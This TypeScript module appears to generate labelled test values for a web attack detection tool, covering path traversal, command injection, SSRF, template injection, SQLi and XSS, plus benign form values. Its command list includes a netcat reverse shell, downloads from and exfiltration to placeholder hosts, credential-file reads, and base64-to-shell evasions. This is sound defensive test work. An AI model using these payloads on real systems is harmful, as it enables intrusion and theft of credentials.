// The labelled values the web attack rules are measured on: the hand-written lists beside this file plus
// variants generated here (deterministic), and the shared SQLi / XSS lists; see README.md for how they were made.
import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { prng } from '../../../test/prng.js';

const HERE = dirname(fileURLToPath(import.meta.url));

/** The source directory of this file, also when it runs compiled from dist/. */
function sourceDir(): string {
  if (existsSync(join(HERE, 'benign.txt'))) return HERE;
  let dir = HERE;
  while (!existsSync(join(dir, 'package.json'))) {
    const up = dirname(dir);
    if (up === dir) throw new Error('cannot find the repository root (package.json) above rules/testdata/web-attacks');
    dir = up;
  }
  return join(dir, 'rules', 'testdata', 'web-attacks');
}

const DIR = sourceDir();
const ROOT = join(DIR, '..', '..', '..');
/** ../shared/data (the real third-party payload lists), or MINISOC_DATA. */
export const SHARED_DATA = process.env.MINISOC_DATA ?? join(ROOT, '..', 'shared', 'data');

/** One value per line, taken literally (no comments: a value may start with #). */
export function readValues(file: string): string[] {
  return readFileSync(file, 'utf8').split('\n').map((l) => l.replace(/\r$/, '')).filter((l) => l.length > 0);
}

function pick<T>(r: () => number, xs: readonly T[]): T {
  return xs[Math.floor(r() * xs.length)]!;
}

/** n distinct items of all (or all of them), in a seeded order. */
function sample<T>(r: () => number, all: readonly T[], n: number): T[] {
  const xs = [...all];
  for (let i = xs.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [xs[i], xs[j]] = [xs[j]!, xs[i]!];
  }
  return xs.slice(0, n);
}

const unique = (xs: readonly string[]): string[] => [...new Set(xs)];

// ---------------------------------------------------------------- path traversal

/** Spellings of one ../ step and the directory separator that goes with it. */
const TRAVERSAL_STEPS: [step: string, sep: string][] = [
  ['../', '/'], ['..\\', '\\'], ['%2e%2e%2f', '%2f'], ['%2e%2e/', '/'], ['..%2f', '%2f'], ['%2e%2e%5c', '%5c'], ['..%5c', '%5c'],
  ['%252e%252e%252f', '%252f'], ['..%252f', '%252f'], ['..%255c', '%255c'], ['..%c0%af', '/'], ['%c0%ae%c0%ae/', '/'],
  ['..%c1%9c', '%c1%9c'], ['..%u2215', '%u2215'], ['%u002e%u002e%u2215', '/'], ['%uff0e%uff0e%u2215', '/'], ['....//', '/'],
  ['..;/', '/'], ['..\\/', '/'], ['.%2e/', '/'], ['%2e./', '/'], ['..%00/', '/'], ['..//', '/'], ['%%32%65%%32%65/', '/'],
  ['..%e0%80%af', '/'], ['..%25c0%25af', '/'], ['..0x2f', '/'], ['．．／', '／'],
];
const LINUX_TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/group', 'proc/self/environ', 'proc/self/cmdline', 'var/log/apache2/access.log',
  'var/log/nginx/error.log', 'root/.ssh/id_rsa', 'home/deploy/.bash_history', 'etc/nginx/nginx.conf', 'etc/mysql/my.cnf', 'usr/local/etc/php.ini',
  'var/www/html/wp-config.php', 'app/.env', 'WEB-INF/web.xml', 'etc/ssh/sshd_config'];
const WINDOWS_TARGETS = ['windows/win.ini', 'boot.ini', 'windows/system32/drivers/etc/hosts', 'inetpub/wwwroot/web.config', 'winnt/win.ini',
  'windows/system32/config/sam', 'windows/repair/sam'];
const TRAVERSAL_SUFFIXES = ['', '', '', '%00', '%00.jpg', '%2500', '?', '%00.html'];
const TRAVERSAL_PREFIXES = ['', '', '', '/', 'static/', 'x/', 'files/'];

function traversalVariants(): string[] {
  const r = prng(20250601);
  const out: string[] = [];
  for (const [step, sep] of TRAVERSAL_STEPS) {
    for (const target of sample(r, [...LINUX_TARGETS, ...WINDOWS_TARGETS], 8)) {
      const depth = 1 + Math.floor(r() * 10);
      out.push(pick(r, TRAVERSAL_PREFIXES) + step.repeat(depth) + target.split('/').join(sep) + pick(r, TRAVERSAL_SUFFIXES));
    }
  }
  return out;
}

// ---------------------------------------------------------------- command injection

/** Commands an attacker runs first: a probe, a read, a time delay, an out-of-band call, a shell. */
const COMMANDS = [
  'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'ls', 'ls /', 'sleep 5', 'sleep 10', 'ping -c 5 127.0.0.1', 'ping -n 5 127.0.0.1',
  'nslookup x.oast.example', 'curl http://203.0.113.5/x', 'wget http://203.0.113.5/x.sh', 'echo cmdi_ok', 'nc 203.0.113.5 4444 -e /bin/sh',
  'bash -c id', 'sh -c id', 'python -c "import os"', 'perl -e "print 1"', 'hostname', 'pwd', 'ps aux', 'netstat -an', 'env', 'printenv',
  'ifconfig', 'cat /etc/shadow', 'head -n 1 /etc/passwd', 'uname', 'id -u', 'rm -f /tmp/x', 'touch /tmp/x', 'curl -d @/etc/passwd http://oast.example',
];
const WINDOWS_COMMANDS = ['dir', 'dir c:\\', 'type C:\\boot.ini', 'type c:\\windows\\win.ini', 'ipconfig /all', 'ipconfig', 'net user', 'whoami /priv',
  'powershell -c whoami', 'cmd /c whoami', 'systeminfo', 'tasklist', 'ver', 'ping -n 10 127.0.0.1', 'timeout /t 5'];
/** [before, after]: how the command is joined to the value the application expected. */
const JOINS: [string, string][] = [
  [';', ''], ['; ', ''], [';', ';'], ['|', ''], ['| ', ''], ['||', ''], ['|| ', ''], ['&&', ''], [' && ', ''], ['& ', ''], ['&', '&'],
  ['\n', ''], ['\n', '\n'], ['\r\n', ''], ['`', '`'], ['$(', ')'], ['$( ', ' )'], ["';", ";'"], ['";', ';"'], ["'|", "|'"], [');', ';('],
  ['; ', ' #'], ['| ', ' |'], ['%0a', ''], [';', ' ;#'],
];
const WINDOWS_JOINS: [string, string][] = [['&', ''], ['& ', ''], ['&&', ''], ['| ', ''], ['|', ''], ['||', ''], ['\r\n', ''], [' & ', ' &']];
const INPUTS = ['', '', '', '1', 'x', '127.0.0.1', 'example.com', 'file.txt', 'abc', '8.8.8.8', 'test'];

/** Shell evasions applied to the first word of a command, or to its spaces. */
const EVASIONS: ((cmd: string) => string)[] = [
  (c) => c,
  (c) => c,
  (c) => c.replace(/ /g, '${IFS}'),
  (c) => c.replace(/ /g, '$IFS$9'),
  (c) => c.replace(/ /g, '\t'),
  (c) => c.replace(/^(\w)(\w)/, "$1'$2'"),
  (c) => c.replace(/^(\w)(\w)/, '$1""$2'),
  (c) => c.replace(/^(\w)(\w)/, '$1\\$2'),
  (c) => c.replace(/^(\w)(\w)/, '$1$@$2'),
  (c) => (/^\w+ /.test(c) ? `{${c.replace(/ /g, ',')}}` : c),
  (c) => `/bin/${c}`,
  (c) => `/usr/bin/${c}`,
  (c) => c.replace(/^cat /, '/???/c?t ').replace(/\/etc\/passwd/, '/???/p?ss??'),
  (c) => `echo ${Buffer.from(c).toString('base64')}|base64 -d|sh`,
];

function commandVariants(): string[] {
  const r = prng(20250602);
  const out: string[] = [];
  for (const cmd of COMMANDS) {
    for (let k = 0; k < 9; k++) {
      const [before, after] = pick(r, JOINS);
      out.push(pick(r, INPUTS) + before + pick(r, EVASIONS)(cmd) + after);
    }
  }
  for (const cmd of WINDOWS_COMMANDS) {
    for (let k = 0; k < 5; k++) {
      const [before, after] = pick(r, WINDOWS_JOINS);
      out.push(pick(r, INPUTS) + before + cmd + after);
    }
  }
  return out;
}

// ---------------------------------------------------------------- benign form values

const FIRST = ["Sean", "Siobhán", "Patrick", "Mary-Kate", "José", "Zoë", "D'Arcy", "Renée", "Ali", "Nguyen", "Chloé", "Liam", "Aoife", "Jean-Luc", "Mei", "Olu"];
const LAST = ["O'Brien", "O'Neill", "D'Souza", "McDonald", "Smith", "García-López", "van der Berg", "N'Diaye", "Müller", "Nakamura", "de la Cruz", "L'Estrange", "Ó Briain", "Kowalski"];
const COMPANY = ['Tom', 'Jerry', 'Smith', 'Sons', 'Marks', 'Spencer', 'Johnson', 'Black', 'Decker', 'Ben', "Jerry's", 'Arts', 'Crafts', 'Health', 'Safety', 'Bed', 'Breakfast'];
const ITEMS = ['cat food', 'dog bed', 'ping pong paddles', 'sleep mask', 'echo dot', 'curling iron', 'python book', 'ruby ring', 'id card holder', 'shell necklace',
  'cat tree', 'bash invitations', 'host gift', 'power strip', 'command hooks', 'kill switch', 'time capsule', 'date stamp', 'type writer', 'net bag'];
const PHRASES = ['call me later', "it's cold", 'bring snacks', 'see you at 5', 'cat and dog', 'ping me tomorrow', 'sleep well', 'no rush', 'thanks again',
  'price is $20', 'ask for Tom & Jerry', 'use the C|C++ section', 'room 101', "we're at O'Hare", 'top floor', 'cash only', 'id required', 'echo chamber'];
/** Words of searches and tag lists, many of them also command names (cat, ping, sleep, echo, curl, find, type). */
const WORDS = ['cat', 'cats', 'dog', 'ping', 'sleep', 'echo', 'curl', 'python', 'shell', 'find', 'type', 'more', 'less', 'head', 'tail', 'host', 'time',
  'date', 'net', 'set', 'kill', 'sort', 'file', 'root', 'admin', 'home', 'windows', 'system', 'config', 'log', 'template', 'metadata', 'select',
  'union', 'order', 'script', 'alert', 'shoes', 'red', 'blue', 'cheap', 'best', 'near me', '2024', 'music', 'books', 'garden', 'kids', 'sale'];
const DIRS = ['docs', 'reports', 'images', 'uploads/2024/06', 'assets/img', 'files/shared', 'invoices', 'media/video', 'static/css', 'downloads'];
const NAMES = ['report', 'summary', 'cat', 'photo', 'invoice', 'backup', 'notes', 'passwd-policy', 'config-guide', 'etc-list', 'hosts-table', 'win-install'];
const EXTS = ['pdf', 'docx', 'png', 'jpg', 'csv', 'txt', 'xlsx', 'md', 'json', 'zip'];
const DOMAINS = ['example.com', 'example.org', 'shop.example.net', 'mail.example.co.uk', 'news.example', 'cdn.example.com'];
const KEYS = ['q', 'page', 'ref', 'utm_source', 'lang', 'id', 'sort', 'filter', 'next', 'tab'];
const VALS = ['shoes', '2', 'newsletter', 'en-GB', '42', 'price_desc', 'open', '/account', 'reviews', 'cat'];
const PRICES = ['5', '9.99', '19.99', '100', '1,299', '0.50', '250.00', '45'];

const BENIGN_TEMPLATES: ((r: () => number) => string)[] = [
  (r) => `${pick(r, FIRST)} ${pick(r, LAST)}`,
  (r) => `${pick(r, LAST)}, ${pick(r, FIRST)}`,
  (r) => `${pick(r, COMPANY)} & ${pick(r, COMPANY)}`,
  (r) => `${pick(r, COMPANY)} & ${pick(r, COMPANY)} Ltd.`,
  (r) => `${pick(r, ITEMS)} for $${pick(r, PRICES)}`,
  (r) => `${1 + Math.floor(r() * 9)} x ${pick(r, ITEMS)} @ $${pick(r, PRICES)}`,
  (r) => `${pick(r, PHRASES)}; ${pick(r, PHRASES)}`,
  (r) => `${pick(r, PHRASES)}; ${pick(r, PHRASES)}; ${pick(r, PHRASES)}.`,
  (r) => `${pick(r, WORDS)} ${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)} ${pick(r, WORDS)} ${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)} | ${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)}|${pick(r, WORDS)}|${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)} & ${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)}; ${pick(r, WORDS)}`,
  (r) => `"${pick(r, WORDS)} ${pick(r, WORDS)}"`,
  (r) => `${pick(r, WORDS)}'s ${pick(r, ITEMS)}`,
  (r) => `how to ${pick(r, WORDS)} ${pick(r, ITEMS)}?`,
  (r) => `${pick(r, DIRS)}/${pick(r, NAMES)}-${2019 + Math.floor(r() * 7)}.${pick(r, EXTS)}`,
  (r) => `${pick(r, NAMES)} (${1 + Math.floor(r() * 5)}).${pick(r, EXTS)}`,
  (r) => `${pick(r, FIRST).toLowerCase().replace(/[^a-z]/g, '')}.${pick(r, LAST).toLowerCase().replace(/[^a-z']/g, '')}@${pick(r, DOMAINS)}`,
  (r) => `https://${pick(r, DOMAINS)}/${pick(r, DIRS)}/${pick(r, NAMES)}?${pick(r, KEYS)}=${pick(r, VALS)}`,
  (r) => `https://${pick(r, DOMAINS)}/?${pick(r, KEYS)}=${pick(r, VALS)}&${pick(r, KEYS)}=${pick(r, VALS)}`,
  (r) => `{"${pick(r, KEYS)}":"${pick(r, VALS)}","${pick(r, KEYS)}":${Math.floor(r() * 100)}}`,
  (r) => `[{"name":"${pick(r, FIRST)}","note":"${pick(r, PHRASES)}"}]`,
  (r) => `${2019 + Math.floor(r() * 7)}-${String(1 + Math.floor(r() * 12)).padStart(2, '0')}-${String(1 + Math.floor(r() * 28)).padStart(2, '0')}`,
  (r) => `${1 + Math.floor(r() * 12)}:${String(Math.floor(r() * 60)).padStart(2, '0')} ${pick(r, ['AM', 'PM'])}`,
  (r) => `Re: ${pick(r, PHRASES)}`,
  (r) => `${pick(r, ITEMS)} (${pick(r, ['red', 'size M', 'pack of 3', '2-pack', 'XL'])})`,
  (r) => `${Math.floor(r() * 100)}% off ${pick(r, ITEMS)}!`,
  (r) => `${pick(r, WORDS)} && ${pick(r, WORDS)}`,
  (r) => `${pick(r, WORDS)}...`,
  (r) => `${pick(r, WORDS)}/${pick(r, WORDS)}`,
  (r) => `Hi {{${pick(r, ['name', 'first_name', 'customer', 'user.name'])}}}, ${pick(r, PHRASES)}`,
];

function benignVariants(n: number): string[] {
  const r = prng(20250603);
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(pick(r, BENIGN_TEMPLATES)(r));
  return out;
}

// ---------------------------------------------------------------- the classes

export interface AttackClass {
  name: string;
  /** Attack values of the class: any web rule at medium or higher matching one counts as detected. */
  values: string[];
}

/** Shared SQLi / XSS lists (payloadbox, MIT): printable lines that are not comments. */
function sharedList(...rel: string[]): string[] {
  const root = join(SHARED_DATA, 'attack-payloads');
  const lines: string[] = [];
  for (const f of rel) {
    const p = join(root, f);
    if (!existsSync(p)) return [];
    lines.push(...readValues(p).filter((l) => l.trim() && !l.startsWith('#') && !/[\u0000-\u0008\u000b-\u001f]/.test(l)));
  }
  return unique(lines);
}

export const SQLI_FILES = [
  'payloadbox-sqli/Intruder/detect/Generic_SQLI.txt', 'payloadbox-sqli/Intruder/detect/Generic_UnionSelect.txt', 'payloadbox-sqli/Intruder/detect/Generic_TimeBased.txt',
  'payloadbox-sqli/Intruder/detect/GenericBlind.txt', 'payloadbox-sqli/Intruder/detect/Generic_ErrorBased.txt', 'payloadbox-sqli/Intruder/exploit/Auth_Bypass.txt',
  'payloadbox-sqli/Intruder/payloads-sql-blind/MySQL/payloads-sql-blind-MySQL-WHERE.txt',
];
export const XSS_FILES = ['payloadbox-xss/Intruder/xss-payload-list.txt'];

export function attackClasses(): AttackClass[] {
  return [
    { name: 'path traversal', values: unique([...readValues(join(DIR, 'path-traversal.txt')), ...traversalVariants()]) },
    { name: 'command injection', values: unique([...readValues(join(DIR, 'command-injection.txt')), ...commandVariants()]) },
    { name: 'ssrf', values: unique(readValues(join(DIR, 'ssrf.txt'))) },
    { name: 'template injection', values: unique(readValues(join(DIR, 'ssti.txt'))) },
    { name: 'sql injection', values: sharedList(...SQLI_FILES) },
    { name: 'xss', values: sharedList(...XSS_FILES) },
  ];
}

export function benignValues(): string[] {
  return unique([...readValues(join(DIR, 'benign.txt')), ...benignVariants(1600)]);
}
